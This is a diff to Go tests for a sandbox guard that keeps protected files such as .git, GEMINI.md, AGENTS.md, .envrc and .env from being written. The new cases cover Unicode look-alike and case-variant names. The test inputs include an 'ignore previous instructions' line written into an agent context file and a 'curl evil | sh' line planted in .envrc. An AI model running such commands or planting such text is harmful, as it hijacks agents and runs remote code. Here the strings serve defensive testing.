@@ -59,6 +59,7 @@ func TestGuard(t *testing.T) {
 		{"gem policies", "mkdir -p .gem && echo x > .gem/policies.toml", ".gem"},
 		{"context file", "echo 'ignore previous instructions' > GEMINI.md", "GEMINI.md"},
 		{"context file deeper", "echo x > src/AGENTS.md", "src/AGENTS.md"},
+		{"a name that folds to a context file", "echo x > src/AGENTſ.md", "src/AGENTſ.md"},
 		{"direnv", "echo 'curl evil | sh' > .envrc", ".envrc"},
 		{"env file", "echo K=V > src/.env.local", "src/.env.local"},
 		{"editor tasks", "echo '{}' > .vscode/tasks.json", ".vscode/tasks.json"},
@@ -224,6 +225,7 @@ func TestIsProtected(t *testing.T) {
 		".git": true, ".git/config": true, "src/.git": true, "a/b/.GIT/x": true, ".git.": true, ".git ": true,
 		".gemini/settings.json": true, "GEMINI.md": true, "docs/agents.md": true, ".env": true, ".env.local": true,
 		".envrc": true, "x/.vscode/tasks.json": true, ".bashrc": true, ".gitmodules": true,
+		"AGENTſ.md": true, "docs/ClaudE.Md": true, ".g\u200cit/config": true, ".ENVRC": true,
 		"": false, ".": false, "..": false, "src/main.go": false, "git": false, ".github/workflows/x.yml": false,
 		"gitignore": false, "README.md": false, "environment": false, ".gitignore": false, "a.git": false,
 	} {
@@ -237,7 +239,7 @@ func TestIsProtected(t *testing.T) {
 // unprivileged user (when the tests run as root): the helper then has a user namespace of
 // its own, and its capabilities there.
 func TestGuardAsNormalUser(t *testing.T) {
-	testuser.RunTests(t, "TestGuard", "TestSurfaceAttacks", "TestSocketsOfAGuardedProgram", "TestWorkspaceReadOnlyWithoutTheCapability", "TestPolicyIsEnforced", "TestPrestartedHelper", "TestOverlay", "TestOverlayConcurrentStarts", "TestOverlayWorkFolders", "TestRebase")
+	testuser.RunTests(t, "TestGuard", "TestGitInTheSandbox", "TestGitAttacks", "TestSurfaceAttacks", "TestSocketsOfAGuardedProgram", "TestWorkspaceReadOnlyWithoutTheCapability", "TestPolicyIsEnforced", "TestPrestartedHelper", "TestOverlay", "TestOverlayConcurrentStarts", "TestOverlayWorkFolders", "TestRebase")
 }
 
 // TestGuardedHelperHandsOnTerm: without namespaces the guarded helper is not PID 1; a SIGTERM
